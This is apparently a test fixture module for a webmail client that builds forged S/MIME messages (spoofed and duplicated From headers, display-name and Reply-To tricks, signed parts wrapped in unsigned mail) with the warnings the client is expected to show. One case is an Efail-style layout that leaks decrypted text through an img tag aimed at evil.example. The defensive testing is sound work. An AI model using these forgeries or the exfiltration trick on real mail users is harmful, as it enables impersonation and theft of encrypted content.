"""Messages that lie about who wrote, to whom, and which part was signed."""

from functools import partial

from webmail.management.demo.museum import openssl, shapes
from webmail.management.demo.museum.dialects import SIGNED, UNPROTECTED, signed
from webmail.management.demo.museum.exhibit import Exhibit, Expected, Maker, Room
from webmail.management.demo.museum.materials import OUTSIDER, Materials
from webmail.management.demo.museum.signatures import e2h, sealed
from webmail.management.demo.museum.signing import sign_entity

EVIL = "mallory@evil.example"


def under_sender(materials: Materials, subject: str, *, sender: str) -> bytes:
    """Denis's good signature under what somebody else wrote into From."""
    return shapes.outer(materials, subject, sender) + signed(materials, shapes.entity())


def unsigned_from(materials: Materials, subject: str, *, sender: str, more: str = "") -> bytes:
    return shapes.outer(materials, subject, sender, more=more) + shapes.entity()


def under_other_outer_sender(materials: Materials, subject: str) -> bytes:
    """A clear-signed message, whole, sent on by somebody else as his own."""
    return shapes.outer(materials, subject, EVIL) + e2h(materials, subject, hp="clear")


def to_another(materials: Materials, subject: str) -> bytes:
    """Encrypted to the reader; the protected recipient is somebody else: forwarded in secret, or a hidden copy."""
    sender = materials.exposition.sender
    head = shapes.fields(materials, subject, sender, recipient="bob.lefevre@pli.example")
    entity = shapes.entity(kind='text/plain; charset=utf-8; hp="cipher"', head=head)
    signature = sign_entity(materials, entity, materials.exposition, materials.card("bob"))
    return sealed(materials, subject, shapes.clear_signed(entity, signature), sender)


def signed_message_inside(materials: Materials, subject: str) -> bytes:
    """Somebody's genuine message as an attachment of an unsigned one."""
    letter = shapes.outer(materials, "Message authentique") + signed(materials, shapes.entity())
    attached = b'Content-Type: message/rfc822\r\nContent-Disposition: attachment; filename="authentique.eml"\r\n\r\n'
    parts = (shapes.entity("Voir la pièce jointe.\r\n"), attached + letter)
    return shapes.outer(materials, subject, EVIL) + shapes.multipart("multipart/mixed", *parts, edge="=_dehors")


def signed_part_inside(materials: Materials, subject: str) -> bytes:
    """A list put its own words around a signed part: the whole is unsigned."""
    parts = (shapes.entity("Avant.\r\n"), signed(materials, shapes.entity()), shapes.entity("Après.\r\n"))
    return shapes.outer(materials, subject) + shapes.multipart("multipart/mixed", *parts, edge="=_dehors")


def encrypted_part_inside(materials: Materials, subject: str) -> bytes:
    """Clear, encrypted, clear: what is decrypted must never stand between two clear halves (Efail)."""
    secret = shapes.pkcs7(openssl.encrypt(materials, shapes.entity("Le secret.\r\n"), "-aes-256-cbc"))
    before = shapes.entity('<img src="http://evil.example/', "text/html; charset=utf-8")
    parts = (before, secret, shapes.entity('">', "text/html; charset=utf-8"))
    return shapes.outer(materials, subject, EVIL) + shapes.multipart("multipart/mixed", *parts, edge="=_dehors")


def _row(key: str, title: str, maker: Maker, expected: Expected) -> Exhibit:
    return Exhibit(key, Room.FORGERY, title, maker, expected)


_MISMATCH = SIGNED.but(state="S3", reason="from-mismatch")
_HOSTILE = SIGNED.but(state="S3", reason="from-hostile", notices=UNPROTECTED | {"from-hostile"})
_UNSIGNED = Expected("S5", text=shapes.TEXT, reason="unsigned")

ROOM = (
    _row(
        "from-differs",
        "Bonne signature, autre expéditeur",
        partial(under_sender, sender=f"Denis Garnier <{EVIL}>"),
        _MISMATCH,
    ),
    _row(
        "from-quoted",
        "Adresse entre guillemets devant une autre",
        partial(under_sender, sender=f'"{OUTSIDER}"@evil.example'),
        _HOSTILE,
    ),
    _row(
        "from-display",
        "Adresse écrite dans le nom affiché",
        partial(under_sender, sender=f'"{OUTSIDER}" <{EVIL}>'),
        _MISMATCH,
    ),
    _row("from-twice", "Deux champs From", partial(under_sender, sender=f"{OUTSIDER}\r\nFrom: {EVIL}"), _HOSTILE),
    _row("from-two", "Deux adresses dans From", partial(under_sender, sender=f"{OUTSIDER}, {EVIL}"), _HOSTILE),
    _row(
        "from-encoded",
        "Adresse en mots codés",
        partial(under_sender, sender="=?utf-8?q?denis=40partner.example?="),
        _HOSTILE,
    ),
    _row(
        "from-outside",
        "Message signé renvoyé sous un autre nom",
        under_other_outer_sender,
        Expected("S3", notices=frozenset({"from-differs"}), text=shapes.TEXT, reason="outer-from-differs"),
    ),
    _row(
        "name-trick",
        "Nom affiché qui imite une adresse",
        partial(unsigned_from, sender=f'"bob.lefevre@pli.example" <{EVIL}>'),
        _UNSIGNED,
    ),
    _row(
        "reply-elsewhere",
        "Réponse détournée",
        partial(unsigned_from, sender=shapes.DENIS, more=f"Reply-To: {EVIL}\r\n"),
        _UNSIGNED.but(notices=frozenset({"reply-to-differs"})),
    ),
    _row(
        "to-another",
        "Chiffré pour vous, adressé à un autre",
        to_another,
        Expected(
            "S1", encrypted=True, notices=frozenset({"not-addressed-to-you"}), text=shapes.TEXT, reason="signed-by-card"
        ),
    ),
    _row(
        "signed-inside",
        "Message signé joint à un message sans signature",
        signed_message_inside,
        Expected("S5", text="Voir la pièce jointe.", reason="unsigned", files=("authentique.eml",)),
    ),
    _row(
        "signed-part",
        "Partie signée entre deux parties claires",
        signed_part_inside,
        Expected("S5", text="Avant.\n\nAprès.", reason="unsigned", files=("attachment-1.eml",)),
    ),
    _row(
        "clear-encrypted-clear",
        "Clair, chiffré, clair",
        encrypted_part_inside,
        Expected("S5", reason="unsigned", html=True, files=("smime.p7m",)),
    ),
)
